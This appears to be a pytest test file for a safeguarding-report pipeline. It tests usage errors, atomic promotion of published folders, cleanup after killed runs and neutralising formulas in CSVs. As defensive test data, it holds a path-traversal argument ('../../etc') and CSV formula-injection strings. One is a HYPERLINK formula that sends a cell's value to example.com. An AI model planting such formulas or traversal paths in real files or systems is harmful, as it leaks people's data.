"""A run never leaves a mixed or dirty state, and a usage or environment problem is one clear line.

Issue 14 ("Nothing wrong gets through"), the run and promotion part:

* usage errors (``--period banana``, ``--period 2017-18-Q5``, ``--area ../../etc``) are answered
  in seconds with the prewarm on, and an unknown area found once the data is loaded stops the
  warm kernels at once;
* a reports path that is a file, or that cannot be written, is one line and exit code 1;
* promotion that fails part-way leaves the previously published folder byte for byte;
* a SIGKILLed run's staging folder, kernel sockets and kernels are removed by the next run;
* an earlier run's error files go when their theme succeeds;
* CSV files written for people carry no formula a spreadsheet would run.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import signal
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pandas as pd
import pytest

from analysis.paths import REPO_ROOT
from analysis.pipeline import cli, execute, kernels, publish, runner
from analysis.pipeline.options import EXIT_FAILED, EXIT_OK, EXIT_USAGE, OWNER_FILE, NotebookResult, RunError
from analysis.pipeline.runner import run

from conftest_runner import TESTS, contracts, slow_warm_imports, workspace  # noqa: F401

notebook = pytest.mark.notebook
SRC = REPO_ROOT / "src"


def _run(ws, **kwargs):
    stream = io.StringIO()
    result = run(ws.options(**kwargs), stream=stream)
    return result, stream.getvalue()


def _cli(args: list[str], *, timeout: float, env: dict | None = None) -> tuple[float, subprocess.CompletedProcess]:
    """Run ``safeguarding <args>`` in a fresh process (the prewarm on, as by default); its wall time."""
    environment = {**os.environ, "PYTHONPATH": str(SRC), **(env or {})}
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "analysis.pipeline.cli", *args], capture_output=True, text=True,
                          timeout=timeout, env=environment, cwd=REPO_ROOT)
    return time.monotonic() - started, done


# ---------------------------------------------------------------------------------------------
# usage and environment errors: before anything starts, one line


@pytest.mark.parametrize("arguments, names", [
    (["--period", "banana"], "'banana'"),
    (["--period", "2017-18-Q5"], "'2017-18-Q5'"),
    (["--area", "../../etc"], "'../../etc'"),
    (["--area", "E10000031,E1000003"], "'E1000003'"),
])
def test_usage_errors_are_answered_in_seconds_with_prewarm_on(tmp_path, arguments, names):
    """Before: the prewarm's kernels were waited for (124 s for --period banana)."""
    elapsed, done = _cli(["run", *arguments, "--reports-dir", str(tmp_path / "reports")], timeout=60)
    assert done.returncode == EXIT_USAGE, done.stderr
    assert elapsed < 5, f"usage error answered after {elapsed:.1f} s"
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and names in lines[0] and "Traceback" not in done.stderr, done.stderr
    assert not (tmp_path / "reports" / publish.STAGING_DIR).exists()  # nothing started, nothing left


def test_a_reports_path_that_is_a_file_is_one_clean_line(tmp_path):
    target = tmp_path / "reports"
    target.write_text("not a folder")
    elapsed, done = _cli(["run", "--reports-dir", str(target)], timeout=120)
    assert done.returncode == EXIT_FAILED, done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "is a file, not a folder" in lines[0] and "--reports-dir" in lines[0], done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
    assert target.read_text() == "not a folder"
    assert elapsed < 5, f"answered after {elapsed:.1f} s"


def test_a_reports_folder_that_cannot_be_written_is_one_clean_line(workspace, contracts, monkeypatch, capsys):
    """A read-only file system (the tests run as root, so simulated where the folder is created)."""
    workspace.add_theme("plain", "plain")

    def read_only(reports_dir, run_id):
        raise OSError(errno.EROFS, os.strerror(errno.EROFS), str(reports_dir / publish.STAGING_DIR))

    monkeypatch.setattr("analysis.pipeline.request.make_staging", read_only)
    args = cli.build_parser().parse_args([
        "run", "--data-dir", str(workspace.raw), "--notebooks-dir", str(workspace.notebooks),
        "--reports-dir", str(workspace.reports), "--period", "2017-18 Q4",
    ])
    assert cli.run_from_args(args) == EXIT_FAILED
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Read-only file system" in err and "Traceback" not in err, err
    assert contracts.calls == []  # nothing validated, loaded or executed


def test_an_unexpected_error_is_one_line_with_the_details_kept(workspace, contracts, monkeypatch, capsys):
    workspace.add_theme("plain", "plain")

    def broken(options, **kwargs):
        raise ZeroDivisionError("division by zero\nsecond line")

    monkeypatch.setattr(runner, "run", broken)
    args = cli.build_parser().parse_args([
        "run", "--data-dir", str(workspace.raw), "--notebooks-dir", str(workspace.notebooks),
        "--reports-dir", str(workspace.reports),
    ])
    assert cli.run_from_args(args) == EXIT_FAILED
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "ZeroDivisionError: division by zero" in err and "Traceback" not in err, err
    details = Path(err.split("(details in ")[1].split(")")[0])
    try:
        assert "Traceback" in details.read_text(encoding="utf-8")
    finally:
        details.unlink()


@notebook
def test_an_unknown_area_stops_the_warm_kernels_at_once(workspace, contracts, monkeypatch, tmp_path):
    """``E99999999`` has the form of a code; only the data says it is unknown. The warm kernel,
    busy importing a module that takes a minute, is stopped at once rather than waited for."""
    workspace.add_theme("plain", "plain")
    slow_warm_imports(monkeypatch, tmp_path)
    loaded = contracts.load
    found = {}

    def load_once_a_kernel_runs(raw_dir=None, **kwargs):
        deadline = time.monotonic() + 60
        while not kernels.running_kernels() and time.monotonic() < deadline:
            time.sleep(0.1)
        found["kernels"] = len(kernels.running_kernels())
        time.sleep(1)  # the warm kernel is now importing the slow module
        found["loaded_at"] = time.monotonic()
        return loaded(raw_dir, **kwargs)

    monkeypatch.setattr(runner.processed, "load", load_once_a_kernel_runs)
    with pytest.raises(RunError, match="unknown area code.*E99999999"):
        _run(workspace, areas=["E99999999"], prewarm=True, jobs=1, engine="classic")  # fork: test_fork_engine
    stopped_after = time.monotonic() - found["loaded_at"]
    assert found["kernels"] == 1, "no warm kernel was running: the test proves nothing"
    assert stopped_after < 5, f"the run waited {stopped_after:.1f} s for its warm kernel"
    assert kernels.running_kernels() == set()
    assert not (workspace.reports / publish.STAGING_DIR).exists()


# ---------------------------------------------------------------------------------------------
# promotion: one run's set, or the previous one untouched


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@notebook
def test_promotion_failing_part_way_leaves_the_previous_run_whole(workspace, contracts, monkeypatch):
    """Before: the run's notebooks were moved in one by one, then writing the index failed, and
    the folder held the new appendices beside the old index (a mixed set)."""
    workspace.add_theme("alpha", "plain")
    workspace.add_theme("beta", "plain")
    first, output = _run(workspace)
    assert first.exit_code == EXIT_OK, output
    final = workspace.reports / "E10000031" / "2017-18-Q4"
    before = _tree(final)
    time.sleep(1.1)  # the second run's times (in its pages) differ from the first's

    real_write = publish.write_atomic

    def index_not_writable(path, text):
        if Path(path).name == "index.html":
            raise OSError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        real_write(path, text)

    monkeypatch.setattr(publish, "write_atomic", index_not_writable)
    second, output = _run(workspace)
    assert second.exit_code == EXIT_FAILED
    assert _tree(final) == before  # byte for byte the first run's set
    assert [p.name for p in final.parent.iterdir()] == [final.name]  # no half-made folder beside it
    message = next(m for m in second.messages if m.startswith("E10000031"))
    assert "Permission denied" in message and "index.html" in message and "unchanged" in message

    # the same when the swap itself fails
    monkeypatch.setattr(publish, "write_atomic", real_write)

    def swap_fails(new, final_dir, run_id):
        raise OSError(errno.EXDEV, os.strerror(errno.EXDEV), str(final_dir))

    monkeypatch.setattr(runner, "swap_in", swap_fails)
    third, output = _run(workspace)
    assert third.exit_code == EXIT_FAILED and _tree(final) == before
    assert [p.name for p in final.parent.iterdir()] == [final.name]


def _result(theme: str, status: str, **kwargs) -> NotebookResult:
    return NotebookResult(theme=theme, area_code="E10000031", status=status, notebook=f"notebooks/{theme}.ipynb",
                          **kwargs)


def test_assemble_takes_this_runs_files_and_carries_the_rest(tmp_path):
    final = tmp_path / "E10000031" / "2017-18-Q4"
    final.mkdir(parents=True)
    previous = {
        "alpha.html": "old alpha", "alpha.ipynb": "old alpha nb", "alpha.runner-error.txt": "old fault",
        "beta.html": "old beta", "beta.ipynb": "old beta nb", "beta.failed.ipynb": "older failure",
        "beta.runner-error.txt": "older fault", "gamma.html": "gamma, not run", "gamma.failed.ipynb": "gamma f",
        "index.html": "old index", "manifest.json": "{}", "notes.txt": "an analyst's note",
    }
    for name, text in previous.items():
        (final / name).write_text(text)
    (final / "manifests").mkdir()
    (final / "manifests" / "run1.json").write_text("{}")
    staging = tmp_path / "staging"
    staging.mkdir()
    for name, text in {"alpha.html": "new alpha", "alpha.ipynb": "new alpha nb", "beta.failed.ipynb": "new failure",
                       "beta.runner-error.txt": "new fault"}.items():
        (staging / name).write_text(text)
    new = publish.new_folder(final, "run2")
    results = [_result("alpha", "ok"), _result("beta", "failed", failed_notebook="beta.failed.ipynb"),
               _result("delta", "no_local_data")]
    publish.assemble(staging, final, new, results)
    assert {name: (new / name).read_text() for name in sorted(os.listdir(new)) if name != "manifests"} == {
        "alpha.html": "new alpha", "alpha.ipynb": "new alpha nb",  # no stale runner error
        "beta.html": "old beta", "beta.ipynb": "old beta nb",  # the previous good appendix
        "beta.failed.ipynb": "new failure", "beta.runner-error.txt": "new fault",
        "gamma.html": "gamma, not run", "gamma.failed.ipynb": "gamma f", "notes.txt": "an analyst's note",
    }
    assert (new / "manifests" / "run1.json").read_text() == "{}"
    assert {name: (final / name).read_text() for name in previous} == previous  # the published folder untouched

    publish.swap_in(new, final, "run2")
    assert (final / "alpha.html").read_text() == "new alpha" and not new.exists()
    assert sorted(p.name for p in final.parent.iterdir()) == ["2017-18-Q4"]


def test_recover_puts_back_a_folder_a_killed_swap_moved_aside(tmp_path):
    final = tmp_path / "E10000031" / "2017-18-Q4"
    old = final.with_name(".2017-18-Q4.old-run1")
    half = final.with_name(".2017-18-Q4.new-run1")
    old.mkdir(parents=True)
    (old / "index.html").write_text("the published run")
    half.mkdir()
    (half / "alpha.html").write_text("half made")
    publish.recover(final)
    assert (final / "index.html").read_text() == "the published run"
    assert sorted(p.name for p in final.parent.iterdir()) == ["2017-18-Q4"]


# ---------------------------------------------------------------------------------------------
# what dead runs left


_KILLED_RUN = """
import sys
sys.path[:0] = [{tests!r}, {src!r}]
from conftest_runner import Contracts
import analysis.ingest.dataset, analysis.processed, analysis.quality
fake = Contracts()
analysis.ingest.dataset.validate_raw = fake.validate_raw
analysis.processed.load = fake.load
analysis.processed.store_validated = fake.store_validated
analysis.processed.earlier_validation = fake.earlier_validation
analysis.processed.latest_period = fake.latest_period
analysis.quality.run_checks = fake.run_checks
from analysis.pipeline.options import RunOptions
from analysis.pipeline.runner import run
run(RunOptions(period="2017-18 Q4", areas=["E10000031"], raw_dir={raw!r}, notebooks_dir={notebooks!r},
               reports_dir={reports!r}, jobs=1, cell_timeout=300))
"""


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return Path(f"/proc/{pid}/stat").exists() and " Z " not in Path(f"/proc/{pid}/stat").read_text()


@notebook
def test_a_sigkilled_runs_leftovers_are_removed_by_the_next_run(workspace, contracts, monkeypatch, tmp_path):
    workspace.add_theme("sleeps", "sleeps")  # a cell that sleeps two minutes: the run is busy when killed
    temp = tmp_path / "tmp"
    temp.mkdir()
    script = tmp_path / "killed_run.py"
    script.write_text(_KILLED_RUN.format(tests=str(TESTS), src=str(SRC), raw=str(workspace.raw),
                                         notebooks=str(workspace.notebooks), reports=str(workspace.reports)))
    process = subprocess.Popen([sys.executable, str(script)], env={**os.environ, "TMPDIR": str(temp)},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 180
        started = False
        while not started and time.monotonic() < deadline and process.poll() is None:
            started = bool(list(temp.glob(f"{kernels.SOCKET_PREFIX}*/k*/connection.json"))
                           and list((workspace.reports / publish.STAGING_DIR).glob("*/E10000031")))
            time.sleep(0.2)
        assert started, "the run never started its kernel"
        deadline = time.monotonic() + 30
        while not list(temp.glob(f"{kernels.SOCKET_PREFIX}*/k*/{kernels.KERNEL_PID_FILE}")) and time.monotonic() < deadline:
            time.sleep(0.2)
        time.sleep(1)
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait(30)
    staged = list((workspace.reports / publish.STAGING_DIR).iterdir())
    sockets = list(temp.glob(f"{kernels.SOCKET_PREFIX}*"))
    assert len(staged) == 1 and len(sockets) == 1  # what the kill left
    pid_files = list(sockets[0].glob(f"k*/{kernels.KERNEL_PID_FILE}"))
    assert len(pid_files) == 1, "the killed run's kernel pid was not recorded"
    kernel_pid = int(pid_files[0].read_text())  # read now: the next run removes the folder

    workspace.add_theme("sleeps", "plain")
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    result, output = _run(workspace, jobs=1)
    assert result.exit_code == EXIT_OK, output
    assert not (workspace.reports / publish.STAGING_DIR).exists()
    assert list(temp.glob(f"{kernels.SOCKET_PREFIX}*")) == []
    deadline = time.monotonic() + 10
    while _alive(kernel_pid) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not _alive(kernel_pid), "the killed run's kernel still runs"


def test_a_live_runs_staging_is_left_alone(tmp_path):
    reports = tmp_path / "reports"
    mine = publish.make_staging(reports, "live-run")
    unrecorded = reports / publish.STAGING_DIR / "older-version-run"
    unrecorded.mkdir()
    dead = reports / publish.STAGING_DIR / "dead-run"
    dead.mkdir()
    child = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    (dead / OWNER_FILE).write_text(json.dumps({"pid": int(child.stdout), "started": None}))
    assert publish.remove_dead_staging(reports) == [dead]
    assert mine.exists() and unrecorded.exists()  # a fresh folder without a record may be a live run


# ---------------------------------------------------------------------------------------------
# error files of an earlier run


@notebook
def test_an_earlier_runs_error_files_go_when_the_theme_succeeds(workspace, contracts, monkeypatch):
    workspace.add_theme("alpha", "plain")
    workspace.add_theme("beta", "plain")
    real_export = execute.export_appendix

    def export_fails_for_beta(nb, context, **kwargs):
        if context.theme == "beta":
            raise RuntimeError("a fault of the exporter")
        return real_export(nb, context, **kwargs)

    monkeypatch.setattr(execute, "export_appendix", export_fails_for_beta)
    first, output = _run(workspace)
    assert first.exit_code == EXIT_FAILED
    final = workspace.reports / "E10000031" / "2017-18-Q4"
    assert (final / "beta.runner-error.txt").exists() and (final / "beta.failed.ipynb").exists()
    assert "a fault of the exporter" in (final / "beta.runner-error.txt").read_text()

    monkeypatch.setattr(execute, "export_appendix", real_export)
    second, output = _run(workspace)
    assert second.exit_code == EXIT_OK, output
    assert (final / "beta.html").exists()
    assert not (final / "beta.runner-error.txt").exists() and not (final / "beta.failed.ipynb").exists()


# ---------------------------------------------------------------------------------------------
# CSV files for people


#: OWASP's list of what starts a formula in a spreadsheet (Excel, LibreOffice).
OWASP_FORMULA_STARTS = "=+-@\t\r"


def test_csv_for_people_neutralises_formulas(tmp_path):
    from analysis.processed import write_csv_for_people

    texts = ['=HYPERLINK("http://example.com","x")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
             "plain text", "a=b", "", None]
    frame = pd.DataFrame({"text": texts, "count": [-5, 1, 2, 3, 4, 5, 6, 7, 8, 9]})
    frame["text_str"] = frame["text"].astype("string")
    path = tmp_path / "out.csv"
    write_csv_for_people(frame, path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row, text in zip(rows, texts):
        expected = "" if text is None else ("'" + text if text[:1] and text[0] in OWASP_FORMULA_STARTS else text)
        assert row["text"] == expected and row["text_str"] == expected, (row, text)
    assert [row["count"] for row in rows][:2] == ["-5", "1"]  # numbers are numbers, untouched


def test_safeguarding_build_neutralises_formulas_and_keeps_parquet_raw(raw_copy, tmp_path):
    from analysis.ingest.declaration import declare
    from analysis.processed import build_processed

    source = raw_copy / "wscb_2017_18" / "t3_1_lac_cp_cin.csv"
    frame = pd.read_csv(source, dtype=str, keep_default_na=False)
    injected = '=HYPERLINK("http://example.com/?"&A1,"Click")'
    frame.loc[0, "note"] = injected
    frame.loc[1, "note"] = "@SUM(1+1)"
    frame.to_csv(source, index=False)
    declare(source.parent)  # a deliberate change to the data is declared, as README says

    written = build_processed(raw_copy, tmp_path / "processed")
    with open(written["observations_local_csv"], newline="", encoding="utf-8") as handle:
        notes = [row["note"] for row in csv.DictReader(handle)]
    assert notes.count("'" + injected) == 1 and notes.count("'@SUM(1+1)") == 1
    assert injected not in notes and "@SUM(1+1)" not in notes
    assert not [note for note in notes if note[:1] and note[0] in OWASP_FORMULA_STARTS]
    stored = pd.read_parquet(written["observations"])
    assert injected in set(stored["note"]) and "@SUM(1+1)" in set(stored["note"])  # raw values in the parquet
